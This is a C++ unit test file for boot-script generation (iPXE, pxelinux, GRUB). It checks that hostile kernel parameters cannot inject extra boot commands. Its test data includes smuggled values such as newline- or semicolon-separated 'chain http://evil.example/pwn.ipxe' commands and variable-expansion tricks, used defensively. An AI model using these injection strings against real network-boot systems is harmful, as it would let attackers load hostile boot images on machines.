// The boot files Ingot writes (boot/boot_scripts.h, quoting in
// boot/boot_quoting.h), read back by models of the loaders' own parsers:
// iPXE (script.c, exec.c, settings expansion), pxelinux (one directive per
// line) and GRUB (its shell-like lexer, then `linux`'s command line
// builder), each followed by the kernel's own splitting. With hostile
// parameters a file either cannot be written (InvalidParameter) or holds
// exactly the expected commands, with exactly one kernel command whose
// arguments are exactly the intended ones.
#include <gtest/gtest.h>

#include "boot/boot_quoting.h"
#include "boot/boot_scripts.h"
#include "boot/kernel_cmdline.h"
#include "common/strings.h"
#include "interfaces/base_interface.h"

using namespace ingot;
using namespace ingot::boot;
using Words = std::vector<std::string>;

namespace {

// --- iPXE ------------------------------------------------------------------

bool ipxe_space(char c) {
    return c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f' || c == '\v';
}

// ${name} replaced until none is left (iPXE rescans the whole word after
// each replacement); every setting is unset here, so expands to nothing.
std::string ipxe_expand(std::string word) {
    for (;;) {
        size_t start = std::string::npos, end = std::string::npos;
        for (size_t i = 0; i < word.size(); ++i) {
            if (word[i] == '$' && i + 1 < word.size() && word[i + 1] == '{') start = i;
            if (start != std::string::npos && word[i] == '}') {
                end = i;
                break;
            }
        }
        if (end == std::string::npos) return word;
        word = word.substr(0, start) + word.substr(end + 1);
    }
}

// Every command the script would run, in order (labels and comments gone).
std::vector<Words> ipxe_commands(const std::string& script) {
    std::vector<Words> commands;
    std::string line;
    auto run_line = [&commands](std::string text) {
        size_t pos = text.find_first_not_of(" \t");
        if (pos != std::string::npos && text[pos] == ':') {  // a label, then maybe a command
            size_t end = pos;
            while (end < text.size() && !ipxe_space(text[end])) ++end;
            text = text.substr(end);
        }
        Words tokens, current;
        for (size_t i = 0; i < text.size();) {
            while (i < text.size() && ipxe_space(text[i])) ++i;
            size_t start = i;
            while (i < text.size() && !ipxe_space(text[i])) ++i;
            if (i > start) tokens.push_back(text.substr(start, i - start));
        }
        for (const auto& t : tokens) {
            if (t[0] == '#') break;
            if (t == "||" || t == "&&" || t == ";") {
                if (!current.empty()) commands.push_back(current);
                current.clear();
                continue;
            }
            current.push_back(ipxe_expand(t));
        }
        if (!current.empty()) commands.push_back(current);
    };
    for (const auto& raw : split(script, '\n')) {
        std::string part = raw;
        if (!part.empty() && part.back() == '\r') part.pop_back();
        if (!part.empty() && part.back() == '\\') {  // continued on the next line
            line += part.substr(0, part.size() - 1);
            continue;
        }
        run_line(line + part);
        line.clear();
    }
    return commands;
}

// --- pxelinux --------------------------------------------------------------

// (directive, rest of line) for every directive line.
std::vector<std::pair<std::string, std::string>> pxelinux_directives(const std::string& config) {
    std::vector<std::pair<std::string, std::string>> out;
    for (const auto& raw : split(config, '\n')) {
        std::string line = raw;
        line.erase(0, line.find_first_not_of(" \t"));
        if (line.empty() || line[0] == '#') continue;
        size_t blank = line.find_first_of(" \t");
        std::string rest = blank == std::string::npos ? "" : line.substr(blank);
        rest.erase(0, rest.find_first_not_of(" \t"));
        out.emplace_back(to_lower(line.substr(0, blank)), rest);
    }
    return out;
}

// --- GRUB ------------------------------------------------------------------

// GRUB's lexer, conservatively: blanks separate words; a newline, ';', '|',
// '&', '<' and '>' end a command (so text that would start another one
// shows up as one); '#' at a word's start comments out the line; single
// quotes are literal; in double quotes and outside quotes '\' escapes and
// $name / ${name} expand (to nothing: no variable is set).
std::vector<Words> grub_commands(const std::string& config) {
    std::vector<Words> commands;
    Words current;
    std::string word;
    bool in_word = false;
    auto end_word = [&] {
        if (in_word) current.push_back(word);
        word.clear();
        in_word = false;
    };
    auto end_command = [&] {
        end_word();
        if (!current.empty()) commands.push_back(current);
        current.clear();
    };
    auto expand = [&](size_t& i) {  // at '$'
        if (i + 1 < config.size() && config[i + 1] == '{') {
            i = config.find('}', i);
        } else {
            while (i + 1 < config.size() &&
                   (std::isalnum(static_cast<unsigned char>(config[i + 1])) || config[i + 1] == '_'))
                ++i;
        }
        in_word = true;
    };
    for (size_t i = 0; i < config.size(); ++i) {
        const char c = config[i];
        if (c == ' ' || c == '\t') {
            end_word();
        } else if (c == '\n' || c == ';' || c == '|' || c == '&' || c == '<' || c == '>') {
            end_command();
        } else if (c == '#' && !in_word) {
            i = config.find('\n', i) - 1;
        } else if (c == '\'') {
            const size_t close = config.find('\'', i + 1);
            word += config.substr(i + 1, close - i - 1);
            in_word = true;
            i = close;
        } else if (c == '"') {
            for (++i; i < config.size() && config[i] != '"'; ++i) {
                if (config[i] == '\\' && i + 1 < config.size()) {
                    word += config[++i];
                } else if (config[i] == '$') {
                    expand(i);
                } else {
                    word += config[i];
                }
            }
            in_word = true;
        } else if (c == '\\') {
            word += config[++i];
            in_word = true;
        } else if (c == '$') {
            expand(i);
        } else {
            word += c;
            in_word = true;
        }
    }
    end_command();
    return commands;
}

// What GRUB's `linux` hands the kernel (grub-core/lib/cmdline.c): words
// joined by blanks, one with a blank in double quotes, and a backslash
// before \ ' and ".
std::string grub_linux_command_line(const Words& linux_command) {
    std::string out = "BOOT_IMAGE=" + linux_command.at(1);
    for (size_t i = 2; i < linux_command.size(); ++i) {
        std::string escaped;
        for (char c : linux_command[i]) {
            if (c == '\\' || c == '\'' || c == '"') escaped += '\\';
            escaped += c;
        }
        out += linux_command[i].find(' ') != std::string::npos ? " \"" + escaped + "\"" : " " + escaped;
    }
    return out;
}

// --- the files ---------------------------------------------------------------

constexpr const char* kUuid = "1be26c0b-03f2-4d2e-ae87-c02d7f33c123";

BootEntry entry(std::vector<KernelArg> args) {
    return {"deploy", std::string(kUuid) + "/deploy_kernel", std::string(kUuid) + "/deploy_ramdisk", std::move(args),
            std::string("node ") + kUuid};
}

BootEntry ipxe_entry(std::vector<KernelArg> args) {
    BootEntry e = entry(std::move(args));
    e.kernel = "http://10.0.2.2:6385/boot/" + e.kernel;
    e.initrd = "http://10.0.2.2:6385/boot/" + e.initrd;
    return e;
}

Words names(const std::vector<Words>& commands) {
    Words out;
    for (const auto& c : commands) out.push_back(c.at(0));
    return out;
}

// Each format, read back: the arguments the kernel gets.
std::vector<KernelArg> ipxe_kernel_gets(const std::vector<KernelArg>& args) {
    const BootEntry e = ipxe_entry(args);
    const auto commands = ipxe_commands(ipxe_boot_script(e));
    EXPECT_EQ(names(commands), (Words{"set", "inc", "iseq", "goto", "imgfree", "kernel", "goto", "initrd", "goto",
                                      "boot", "goto", "echo", "sleep", "reboot"}));
    const Words& kernel = commands.at(5);
    EXPECT_EQ(Words(kernel.begin(), kernel.begin() + 4), (Words{"kernel", "--name", "kernel", e.kernel}));
    EXPECT_EQ(commands.at(7), (Words{"initrd", "--name", "initrd", e.initrd}));
    return split_kernel_command_line(join(Words(kernel.begin() + 4, kernel.end()), " "));
}

std::vector<KernelArg> pxelinux_kernel_gets(const std::vector<KernelArg>& args) {
    const BootEntry e = entry(args);
    const auto directives = pxelinux_directives(pxelinux_config(e));
    Words seen;
    for (const auto& [d, rest] : directives) seen.push_back(d);
    EXPECT_EQ(seen, (Words{"default", "label", "kernel", "append"}));
    EXPECT_EQ(directives.at(2).second, e.kernel);
    return split_kernel_command_line("BOOT_IMAGE=" + e.kernel + " " + directives.at(3).second);
}

std::vector<KernelArg> grub_kernel_gets(const std::vector<KernelArg>& args) {
    const BootEntry e = entry(args);
    const auto commands = grub_commands(grub_config(e));
    EXPECT_EQ(names(commands), (Words{"set", "set", "menuentry", "linux", "initrd", "}"}));
    EXPECT_EQ(commands.at(4), (Words{"initrd", "/" + e.initrd}));
    EXPECT_EQ(commands.at(3).at(1), "/" + e.kernel);
    return split_kernel_command_line(grub_linux_command_line(commands.at(3)));
}

std::vector<KernelArg> with(std::vector<KernelArg> front, const std::vector<KernelArg>& args) {
    front.insert(front.end(), args.begin(), args.end());
    return front;
}

std::string refusal(const std::function<void()>& f) {
    try {
        f();
    } catch (const interfaces::InvalidParameter& e) {
        return e.what();
    }
    return "";
}

// Hostile but writable: each must reach the kernel unchanged everywhere.
const char* kAccepted[] = {
    "console=ttyS0,115200n8 nofb vga=normal",
    "x=a;b y=a&&b z=a||b",
    "t=\"a ;b\" u=\"one two three\"",
    "d=$HOME e=$ f=a$b{c} g={ h=}",
    "hash=#x at=@ pct=%41 pipe=a|b lt=a<b gt=a>b",
    "acpi_osi=\"!Windows 2012\"",
    "s=\xc3\xa9t\xc3\xa9 k=\xe6\x97\xa5\xe6\x9c\xac u=\xf0\x9f\x94\xa5",
    "empty= flag",
    "chain=http://evil.example/pwn.ipxe",
};

}  // namespace

TEST(BootScripts, HostileButValidParametersReachTheKernelUnchangedInEveryFormat) {
    for (const char* text : kAccepted) {
        SCOPED_TRACE(text);
        const auto args = parse_kernel_params(text, "kernel_append_params");
        ASSERT_FALSE(args.empty());
        EXPECT_EQ(ipxe_kernel_gets(args), with({{"initrd", "initrd"}}, args));
        EXPECT_EQ(pxelinux_kernel_gets(args), with({{"BOOT_IMAGE", std::string(kUuid) + "/deploy_kernel"},
                                                    {"initrd", std::string(kUuid) + "/deploy_ramdisk"}},
                                                   args));
        EXPECT_EQ(grub_kernel_gets(args), with({{"BOOT_IMAGE", "/" + std::string(kUuid) + "/deploy_kernel"}}, args));
    }
}

TEST(BootScripts, EveryFormatRefusesWhatItCannotCarryEvenUnchecked) {
    // Arguments that never went through parse_kernel_params (a record
    // written straight into the database): the writers refuse by themselves.
    const std::vector<std::pair<std::string, std::vector<KernelArg>>> cases = {
        {"newline", split_kernel_command_line("a=\"1\nchain http://evil.example/pwn.ipxe\"")},
        {"carriage return", {{"a", "1\rchain"}}},
    };
    for (const auto& [what, args] : cases) {
        SCOPED_TRACE(what);
        EXPECT_FALSE(refusal([&] { ipxe_boot_script(ipxe_entry(args)); }).empty());
        EXPECT_FALSE(refusal([&] { pxelinux_config(entry(args)); }).empty());
        EXPECT_FALSE(refusal([&] { grub_config(entry(args)); }).empty());
    }
    // Format by format.
    EXPECT_TRUE(refusal([] { ipxe_boot_script(ipxe_entry({{"a", "${x}"}})); }).find("iPXE") != std::string::npos);
    EXPECT_FALSE(refusal([] { ipxe_boot_script(ipxe_entry({{"a", "x ; chain http://evil.example/"}})); }).empty());
    EXPECT_FALSE(refusal([] { ipxe_boot_script(ipxe_entry({{"a", "x #"}})); }).empty());
    EXPECT_TRUE(refusal([] { grub_config(entry({{"a", "it's"}})); }).find("GRUB") != std::string::npos);
    EXPECT_FALSE(refusal([] { grub_config(entry({{"a", "c:\\x"}})); }).empty());
    EXPECT_FALSE(refusal([] { grub_config(entry({{"a", "\xc3\xa0"}})); }).empty());
    EXPECT_FALSE(refusal([] { kernel_command_line({{"a", "x\" y"}}); }).empty());

    // URLs and paths are words too.
    BootEntry e = ipxe_entry({});
    e.kernel = "http://evil.example/${x}";
    EXPECT_FALSE(refusal([&] { ipxe_boot_script(e); }).empty());
    e.kernel = "http://a/b c";
    EXPECT_FALSE(refusal([&] { ipxe_boot_script(e); }).empty());
    e = entry({});
    e.kernel = "a b";
    EXPECT_FALSE(refusal([&] { pxelinux_config(e); }).empty());
    e.kernel = "x\ny";
    EXPECT_FALSE(refusal([&] { grub_config(e); }).empty());
}

TEST(BootScripts, ALineTheKernelWouldCutIsRefusedWithItsLength) {
    // 2047 bytes is all an x86 kernel keeps; the loaders add their part.
    const std::vector<KernelArg> args = {{"a", std::string(2040, 'x')}};
    for (const auto& r : {refusal([&] { ipxe_boot_script(ipxe_entry(args)); }),
                          refusal([&] { pxelinux_config(entry(args)); }), refusal([&] { grub_config(entry(args)); })}) {
        EXPECT_NE(r.find("would be"), std::string::npos) << r;
        EXPECT_NE(r.find("2047"), std::string::npos) << r;
        EXPECT_NE(r.find(kUuid), std::string::npos) << r;
    }
    // Just fitting is fine in iPXE, which adds only initrd=initrd.
    EXPECT_NO_THROW(ipxe_boot_script(ipxe_entry({{"a", std::string(2047 - 14 - 2, 'x')}})));
    EXPECT_FALSE(refusal([&] { ipxe_boot_script(ipxe_entry({{"a", std::string(2047 - 14 - 1, 'x')}})); }).empty());
}

TEST(BootScripts, QuotingHelpers) {
    EXPECT_EQ(grub_word("console=ttyS0,115200n8"), "console=ttyS0,115200n8");
    EXPECT_EQ(grub_word("a;b"), "'a;b'");
    EXPECT_EQ(grub_word("$x"), "'$x'");
    EXPECT_EQ(grub_word("it's"), "'it'\\''s'");
    EXPECT_EQ(grub_word(""), "''");
    EXPECT_EQ(ipxe_word("http://10.0.2.2:6385/boot/x"), "http://10.0.2.2:6385/boot/x");
    EXPECT_EQ(ipxe_kernel_args({{"a", "b c"}, {"d", std::nullopt}}), "a=\"b c\" d");
    EXPECT_EQ(pxelinux_append_args({{"a", "b c"}, {"d", "#"}}), "a=\"b c\" d=#");
    EXPECT_EQ(grub_kernel_args({{"a", "b c"}, {"d", "#"}}), "'a=b c' 'd=#'");
}

// The API's CA as a second initrd in each loader's own syntax (iPXE names
// each image, pxelinux takes a comma list, GRUB a list of paths), after the
// ramdisk so that the kernel unpacks it over it.
TEST(BootScripts, IpxeLoadsAndNamesEveryInitrd) {
    BootEntry e = ipxe_entry({{"console", "ttyS0"}});
    e.extra_initrds = {"http://10.0.2.2:6385/boot/u/deploy_ca"};
    const std::string script = ipxe_boot_script(e);
    EXPECT_NE(script.find(" initrd=initrd initrd=initrd1 console=ttyS0 || goto retry\n"), std::string::npos) << script;
    const auto ramdisk = script.find("initrd --name initrd " + e.initrd + " || goto retry\n");
    const auto ca = script.find("initrd --name initrd1 http://10.0.2.2:6385/boot/u/deploy_ca || goto retry\n");
    ASSERT_NE(ramdisk, std::string::npos) << script;
    ASSERT_NE(ca, std::string::npos) << script;
    EXPECT_LT(ramdisk, ca);
    EXPECT_LT(ca, script.find("boot || goto retry"));
    // Without one, the script is as before.
    EXPECT_NE(ipxe_boot_script(ipxe_entry({{"console", "ttyS0"}})).find(" initrd=initrd console=ttyS0 ||"),
              std::string::npos);
}

TEST(BootScripts, PxelinuxAndGrubListTheInitrdsInOrder) {
    BootEntry e = entry({{"console", "ttyS0"}});
    e.extra_initrds = {"u/deploy_ca"};
    EXPECT_NE(pxelinux_config(e).find("  append initrd=" + e.initrd + ",u/deploy_ca console=ttyS0\n"),
              std::string::npos);
    EXPECT_NE(grub_config(e).find("  initrd /" + e.initrd + " /u/deploy_ca\n"), std::string::npos);
    EXPECT_NE(grub_config(entry({})).find("  initrd /" + e.initrd + "\n"), std::string::npos);
}
